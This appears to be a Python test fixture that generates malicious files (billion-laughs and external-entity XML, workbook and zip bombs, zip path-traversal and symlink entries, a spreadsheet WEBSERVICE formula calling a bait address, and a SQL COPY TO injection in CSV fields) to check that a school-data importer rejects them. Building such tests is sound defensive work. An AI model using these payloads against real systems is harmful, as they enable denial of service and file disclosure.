"""Files made to do harm: each asks a reader for more than the file holds, or than it may have."""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import pyarrow as pa

from tests.record.feeds.whole_files import (
    CIN,
    ODS_CELL,
    ROLL,
    ods,
    parquet,
    workbook,
    zipped,
)

SHEET = "xl/worksheets/sheet1.xml"


@dataclass(frozen=True)
class Bait:
    """What a hostile file asks a reader to open: a file, and an address that listens."""

    file: str
    address: str


# XML that asks for more than it holds


def billion_laughs(bait: Bait) -> tuple[str, bytes]:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return "CIN_Census_2026.xml", _with_doctype(f'<!ENTITY l0 "lol">{levels}', "&l11;")


def quadratic_blowup(bait: Bait) -> tuple[str, bytes]:
    return "CIN_Census_2026.xml", _with_doctype(f'<!ENTITY a "{"a" * 50_000}">', "&a;" * 50_000)


def entity_of_a_file(bait: Bait) -> tuple[str, bytes]:
    return "CIN_Census_2026.xml", _with_doctype(f'<!ENTITY x SYSTEM "file://{bait.file}">', "&x;")


def entity_of_an_address(bait: Bait) -> tuple[str, bytes]:
    return "CIN_Census_2026.xml", _with_doctype(f'<!ENTITY x SYSTEM "{bait.address}">', "&x;")


def document_type_elsewhere(bait: Bait) -> tuple[str, bytes]:
    start = f'<!DOCTYPE Message SYSTEM "{bait.address}">'
    return "CIN_Census_2026.xml", CIN.replace("<Message>", start + "<Message>").encode()


def parameter_entity(bait: Bait) -> tuple[str, bytes]:
    return "CIN_Census_2026.xml", _with_doctype(f'<!ENTITY % x SYSTEM "{bait.address}"> %x;', "")


def included_file(bait: Bait) -> tuple[str, bytes]:
    put = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{bait.file}"/>'
    return "CIN_Census_2026.xml", CIN.replace("S1", put).encode()


def style_sheet_elsewhere(bait: Bait) -> tuple[str, bytes]:
    put = f'?><?xml-stylesheet href="{bait.address}" type="text/xsl"?>'
    return "CIN_Census_2026.xml", CIN.replace("?>", put, 1).encode()


def document_type_in_utf16(bait: Bait) -> tuple[str, bytes]:
    text = _with_doctype(f'<!ENTITY x SYSTEM "file://{bait.file}">', "&x;").decode()
    return "CIN_Census_2026.xml", text.replace("UTF-8", "UTF-16").encode("utf-16")


def deep_nesting(bait: Bait) -> tuple[str, bytes]:
    return "CIN_Census_2026.xml", CIN.replace("S1", "<a>" * 500_000).encode()


def huge_attribute(bait: Bait) -> tuple[str, bytes]:
    put = f'<LAchildID a="{"a" * 2_000_000}">'
    return "CIN_Census_2026.xml", CIN.replace("<LAchildID>", put).encode()


def many_attributes(bait: Bait) -> tuple[str, bytes]:
    put = "<LAchildID " + " ".join(f'a{n}=""' for n in range(200_000)) + ">"
    return "CIN_Census_2026.xml", CIN.replace("<LAchildID>", put).encode()


def huge_text(bait: Bait) -> tuple[str, bytes]:
    return "CIN_Census_2026.xml", CIN.replace("S1", "S" * 20_000_000).encode()


def many_names(bait: Bait) -> tuple[str, bytes]:
    put = "".join(f"<n{n}>1</n{n}>" for n in range(200_000))
    return "CIN_Census_2026.xml", CIN.replace("S1", "S1</LAchildID>" + put + "<LAchildID>").encode()


def one_child_of_many_modules(bait: Bait) -> tuple[str, bytes]:
    put = "<CINdetails><CINreferralDate>2026-01-05</CINreferralDate></CINdetails>" * 100_000
    return "CIN_Census_2026.xml", CIN.replace("</Child>", put + "</Child>").encode()


# Workbooks

_NEAR = '<row r="1"><c r="A1"><v>1</v></c></row>'


def far_cell(bait: Bait) -> tuple[str, bytes]:
    return _sheet(_NEAR + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


def far_cell_in_another_order(bait: Bait) -> tuple[str, bytes]:
    return _sheet(_NEAR + "<row r='1048576'><c s='0' r='ALK1048576'><v>1</v></c></row>")


def far_cells_on_many_sheets(bait: Bait) -> tuple[str, bytes]:
    far = _NEAR + '<row r="900000"><c t="n"  r="CV900000"><v>1</v></c></row>'
    parts = _parts(workbook([["a"]], sheets=40))
    spoilt = [(n, _data(c, far) if n.startswith("xl/worksheets/sheet") else c) for n, c in parts]
    return "roll_2026-11-01.xlsx", zipped(spoilt)


def dimension_that_lies(bait: Bait) -> tuple[str, bytes]:
    return _spoilt_sheet(b'<dimension ref="A1:P2"/>', b'<dimension ref="A1:XFD1048576"/>')


def row_beyond_the_last(bait: Bait) -> tuple[str, bytes]:
    return _sheet(_NEAR + '<row r="4294967295"><c r="A4294967295"><v>1</v></c></row>')


def column_beyond_the_last(bait: Bait) -> tuple[str, bytes]:
    return _sheet(_NEAR + '<row r="2"><c r="ZZZZZZZ2"><v>1</v></c></row>')


def cells_without_places(bait: Bait) -> tuple[str, bytes]:
    return _sheet("<row>" + "<c><v>1</v></c>" * 300_000 + "</row>")


def rows_without_cells(bait: Bait) -> tuple[str, bytes]:
    return _sheet("<row/>" * 1_048_576)


def merged_cells(bait: Bait) -> tuple[str, bytes]:
    put = b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return _spoilt_sheet(b"</sheetData>", put)


def many_merged_cells(bait: Bait) -> tuple[str, bytes]:
    cells = "".join(f'<mergeCell ref="A{n}:XFD{n}"/>' for n in range(1, 400_000))
    return _spoilt_sheet(b"</sheetData>", f"</sheetData><mergeCells>{cells}</mergeCells>".encode())


def shared_string_bomb(bait: Bait) -> tuple[str, bytes]:
    """One text of a megabyte, and 4,000 cells that are it: 4 GB in a file of some kilobytes."""
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 4_000))
    strings = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>%b</t></si></sst>'
    parts = _parts(_sheet(cells)[1])
    return "roll_2026-11-01.xlsx", zipped(
        [(n, strings % (b"a" * 1_000_000) if "sharedStrings" in n else c) for n, c in parts]
    )


def inline_string_bomb(bait: Bait) -> tuple[str, bytes]:
    return _sheet(
        f'<row r="1"><c r="A1" t="inlineStr"><is><t>{"a" * 150_000_000}</t></is></c></row>'
    )


def shared_string_that_is_not_there(bait: Bait) -> tuple[str, bytes]:
    return _sheet('<row r="1"><c r="A1" t="s"><v>4000000000</v></c></row>')


def entity_in_a_sheet(bait: Bait) -> tuple[str, bytes]:
    doctype = f'<!DOCTYPE w [<!ENTITY x SYSTEM "file://{bait.file}">]><worksheet'
    return _spoilt_sheet(b"<worksheet", doctype.encode())


def laughs_in_shared_strings(bait: Bait) -> tuple[str, bytes]:
    content = billion_laughs(bait)[1]
    parts = _parts(workbook([["a"]]))
    return "roll_2026-11-01.xlsx", zipped(
        [(n, content if "sharedStrings" in n else c) for n, c in parts]
    )


def workbook_of_workbooks(bait: Bait) -> tuple[str, bytes]:
    return "roll_2026-11-01.xlsx", zipped(
        [*_parts(workbook([["a"]])), ("b.xlsx", workbook([["a"]]))]
    )


def workbook_that_unpacks_for_ever(bait: Bait) -> tuple[str, bytes]:
    return _sheet(" " * 150_000_000)


def many_sheets(bait: Bait) -> tuple[str, bytes]:
    return "roll_2026-11-01.xlsx", workbook([["a", "b"]], sheets=2_000)


def wide_workbook(bait: Bait) -> tuple[str, bytes]:
    return "roll_2026-11-01.xlsx", workbook([[f"c{n}" for n in range(16_384)]] * 3)


def encrypted_workbook(bait: Bait) -> tuple[str, bytes]:
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1_016
    return "roll_2026-11-01.xlsx", head + "EncryptedPackage".encode("utf-16-le") + b"\0" * 4_000


def old_workbook_of_noise(bait: Bait) -> tuple[str, bytes]:
    return "a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(1).randbytes(60_000)


def ods_of_repeated_cells(bait: Bait) -> tuple[str, bytes]:
    cell = ODS_CELL.replace(">", ' table:number-columns-repeated="2000"><text:p>a</text:p>')
    row = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-cell>'
    return "roll_2026-11-01.ods", ods(f"{row}</table:table-row>")


def ods_of_more_cells_than_numbers(bait: Bait) -> tuple[str, bytes]:
    cell = ODS_CELL.replace(">", ' table:number-columns-repeated="4294967295"><text:p>a</text:p>')
    return "a.ods", ods(f"<table:table-row>{cell}</table:table-cell></table:table-row>")


def ods_with_entities(bait: Bait) -> tuple[str, bytes]:
    parts = _parts(ods(""))
    laughs = billion_laughs(bait)[1]
    return "a.ods", zipped([(n, laughs if n == "content.xml" else c) for n, c in parts])


# ZIPs


def zip_bomb(bait: Bait) -> tuple[str, bytes]:
    return "november.zip", zipped([("roll_2026-11-01.csv", b"a" * 60_000_000)])


def zip_that_lies_of_its_size(bait: Bait) -> tuple[str, bytes]:
    content = zip_bomb(bait)[1]
    return "november.zip", content.replace((60_000_000).to_bytes(4, "little"), b"\x0a\0\0\0")


def zip_in_a_zip(bait: Bait) -> tuple[str, bytes]:
    return "november.zip", zipped([("b.zip", zipped([("roll.csv", ROLL.encode())]))])


def zip_in_disguise(bait: Bait) -> tuple[str, bytes]:
    return "november.zip", zipped([("roll.csv", zipped([("roll.csv", ROLL.encode())]))])


def path_out_of_the_folder(bait: Bait) -> tuple[str, bytes]:
    return "november.zip", zipped([("../../roll.csv", ROLL.encode())])


def path_from_the_root(bait: Bait) -> tuple[str, bytes]:
    return "november.zip", zipped([(bait.file, ROLL.encode())])


def path_of_windows(bait: Bait) -> tuple[str, bytes]:
    return "november.zip", zipped([("..\\..\\roll.csv", ROLL.encode())])


def link_in_a_zip(bait: Bait) -> tuple[str, bytes]:
    link = zipfile.ZipInfo("roll.csv")
    link.external_attr = 0o120777 << 16
    return "november.zip", zipped([(link, bait.file.encode())])


def encrypted_zip(bait: Bait) -> tuple[str, bytes]:
    content = bytearray(zipped([("roll.csv", ROLL.encode())]))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return "november.zip", bytes(content)


def zip_of_too_many(bait: Bait) -> tuple[str, bytes]:
    return "november.zip", zipped([(f"{n}.csv", b"a") for n in range(20_000)])


def zip_of_one_name_twice(bait: Bait) -> tuple[str, bytes]:
    return "november.zip", zipped([("a/roll.csv", ROLL.encode()), ("b/roll.csv", ROLL.encode())])


def empty_zip(bait: Bait) -> tuple[str, bytes]:
    return "november.zip", zipped([])


# Text


def many_columns(bait: Bait) -> tuple[str, bytes]:
    return "roll_2026-11-01.csv", ROLL.replace("Pupil ID", "Pupil ID" + ",x" * 100_000).encode()


def long_cell(bait: Bait) -> tuple[str, bytes]:
    return "roll_2026-11-01.csv", ROLL.replace("1 High St", "a" * 131_073).encode()


def one_endless_line(bait: Bait) -> tuple[str, bytes]:
    return "roll_2026-11-01.csv", ROLL.encode() + b"a" * 40_000_000


def one_endless_quotation(bait: Bait) -> tuple[str, bytes]:
    return "roll_2026-11-01.csv", ROLL.encode() + b'"' + b"a,\n" * 5_000_000


def nothing_but_delimiters(bait: Bait) -> tuple[str, bytes]:
    return "roll_2026-11-01.csv", ROLL.encode() + b"," * 1_900_000 + b"\n"


def nothing_but_line_ends(bait: Bait) -> tuple[str, bytes]:
    return "roll_2026-11-01.csv", ROLL.encode() + b"\n\r" * 50_000


def nothing_but_quotation_marks(bait: Bait) -> tuple[str, bytes]:
    return "roll_2026-11-01.csv", ROLL.encode() + b'"' * 3_000_001


def nuls(bait: Bait) -> tuple[str, bytes]:
    return "roll_2026-11-01.csv", ROLL.encode().replace(b",", b",\0")


def headings_twice(bait: Bait) -> tuple[str, bytes]:
    head = ROLL.splitlines()[0]
    return "roll_2026-11-01.csv", ROLL.replace(head, f"{head},{head}").encode()


def formulas(bait: Bait) -> tuple[str, bytes]:
    return "roll_2026-11-01.csv", ROLL.replace("Amira", f'=WEBSERVICE("{bait.address}")').encode()


def names_that_are_code(bait: Bait) -> tuple[str, bytes]:
    sql = f"'); COPY (SELECT 1) TO '{bait.file}'; --"
    return "roll_2026-11-01.csv", ROLL.replace("Amira", sql).replace("ULN", sql).encode()


# Parquet


def parquet_of_one_value_many_times(bait: Bait) -> tuple[str, bytes]:
    heads = ROLL.splitlines()[0].split(",")
    column = pa.DictionaryArray.from_arrays(pa.array([0] * 20_000), ["a" * 1_000])
    return "roll_2026-11-01.parquet", parquet(pa.table(dict.fromkeys(heads, column)))


def parquet_of_many_columns(bait: Bait) -> tuple[str, bytes]:
    return "roll_2026-11-01.parquet", parquet(pa.table({f"c{n}": ["a"] for n in range(20_000)}))


def parquet_of_nests(bait: Bait) -> tuple[str, bytes]:
    kind = pa.string()
    for _ in range(60):
        kind = pa.list_(kind)
    table = pa.table({"Pupil ID": pa.nulls(3, kind), "URN": ["1", "2", "3"]})
    return "roll_2026-11-01.parquet", parquet(table)


def parquet_that_ends_at_once(bait: Bait) -> tuple[str, bytes]:
    return "roll_2026-11-01.parquet", b"PAR1" + b"\xff" * 4 + b"PAR1"


MADE: tuple[Callable[[Bait], tuple[str, bytes]], ...] = (
    billion_laughs, quadratic_blowup, entity_of_a_file, entity_of_an_address,
    document_type_elsewhere, parameter_entity, included_file, style_sheet_elsewhere,
    document_type_in_utf16, deep_nesting, huge_attribute, many_attributes, huge_text, many_names,
    one_child_of_many_modules, far_cell, far_cell_in_another_order, far_cells_on_many_sheets,
    dimension_that_lies, row_beyond_the_last, column_beyond_the_last, cells_without_places,
    rows_without_cells, merged_cells, many_merged_cells, shared_string_bomb, inline_string_bomb,
    shared_string_that_is_not_there, entity_in_a_sheet, laughs_in_shared_strings,
    workbook_of_workbooks, workbook_that_unpacks_for_ever, many_sheets, wide_workbook,
    encrypted_workbook, old_workbook_of_noise, ods_of_repeated_cells,
    ods_of_more_cells_than_numbers, ods_with_entities, zip_bomb, zip_that_lies_of_its_size,
    zip_in_a_zip, zip_in_disguise, path_out_of_the_folder, path_from_the_root, path_of_windows,
    link_in_a_zip, encrypted_zip, zip_of_too_many, zip_of_one_name_twice, empty_zip, many_columns,
    long_cell, one_endless_line, one_endless_quotation, nothing_but_delimiters,
    nothing_but_line_ends, nothing_but_quotation_marks, nuls, headings_twice, formulas,
    names_that_are_code, parquet_of_one_value_many_times, parquet_of_many_columns,
    parquet_of_nests, parquet_that_ends_at_once,
)  # fmt: skip


def _with_doctype(inside: str, put: str) -> bytes:
    start = f"<!DOCTYPE Message [{inside}]><Message>"
    return CIN.replace("<Message>", start).replace("S1", put).encode()


def _parts(content: bytes) -> list[tuple[str | zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [(name, archive.read(name)) for name in archive.namelist()]


def _data(sheet: bytes, rows: str) -> bytes:
    start, end = sheet.index(b"<sheetData"), sheet.index(b"</sheetData>")
    return sheet[:start] + b"<sheetData>" + rows.encode() + sheet[end:]


def _sheet(rows: str) -> tuple[str, bytes]:
    parts = _parts(workbook([line.split(",") for line in ROLL.splitlines()]))
    return "roll_2026-11-01.xlsx", zipped(
        [(n, _data(c, rows) if n == SHEET else c) for n, c in parts]
    )


def _spoilt_sheet(old: bytes, new: bytes) -> tuple[str, bytes]:
    parts = _parts(workbook([line.split(",") for line in ROLL.splitlines()]))
    return "roll_2026-11-01.xlsx", zipped(
        [(n, c.replace(old, new, 1) if n == SHEET else c) for n, c in parts]
    )
